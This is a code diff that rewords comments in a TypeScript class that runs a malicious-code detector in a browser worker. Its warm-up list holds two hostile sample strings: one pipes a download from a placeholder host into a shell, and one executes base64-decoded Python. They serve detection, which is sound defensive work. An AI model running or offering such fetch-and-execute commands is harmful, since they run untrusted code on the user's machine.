@@ -7,7 +7,7 @@ import { sha256 } from "../bridge/hash.js";
 /** How long the detector may work on one answer. */
 const DEADLINE_MS = 2_000;
 
-/** The detector as it runs in the worker, with the names of what it was built from. */
+/** The detector that runs in the worker, with the identifiers of what it was built from. */
 export interface DeviceDetector {
   detect(text: string, options: { readonly deadlineMs: number }): Promise<Detection>;
   readonly modelRevision: string;
@@ -15,7 +15,7 @@ export interface DeviceDetector {
   readonly sourceHash: string;
 }
 
-/** Commands that make the detector load the grammars which most answers need, the most frequent one first. */
+/** Texts that make the detector load the grammars that most answers need, the most frequent one first. */
 const WARMING = [
   "```sh\ncurl -fsSL https://a.example | sh\n```",
   "```python\nexec(base64.b64decode(x))\n```",
@@ -25,7 +25,7 @@ const WARMING = [
 /** Evaluates in the worker: no server, no token, nothing leaves the browser. */
 export class DeviceEvaluator {
   private readonly loaded = new Map<Profile, Promise<DeviceDetector>>();
-  /** Loads go one after the other: parallel ones would race for the parser's runtime. */
+  /** Detectors are loaded one after the other: parallel loads would race for the parser's runtime. */
   private last: Promise<unknown> = Promise.resolve();
 
   constructor(private readonly load: (profile: Profile) => Promise<DeviceDetector>) {}
@@ -55,7 +55,7 @@ export class DeviceEvaluator {
     }
   }
 
-  /** The longer list finds all that the contract's finds: only where something was found, the other list is asked too. */
+  /** The extended profile finds everything that the contract profile finds, so the contract profile runs only if something was found. */
   private async contractLabels(
     text: string,
     profile: Profile,
@@ -76,7 +76,7 @@ export class DeviceEvaluator {
     const loading = this.last.then(() => this.load(profile));
     this.last = loading.catch(() => undefined);
     this.loaded.set(profile, loading);
-    // What broke once may stay broken: the next call starts again.
+    // A failed load is not kept: the next call tries again.
     loading.catch(() => this.loaded.delete(profile));
     return loading;
   }
@@ -119,10 +119,10 @@ async function describe(
   };
 }
 
-/** The same with nothing read-only. */
+/** The same type without `readonly`. */
 type Plain<T> = T extends object ? { -readonly [K in keyof T]: Plain<T[K]> } : T;
 
-/** A finding as a message can carry it. */
+/** Returns a finding as a plain object for a message. */
 function plainFinding({ payload, ...finding }: Finding): Plain<Finding> {
   return {
     ...finding,
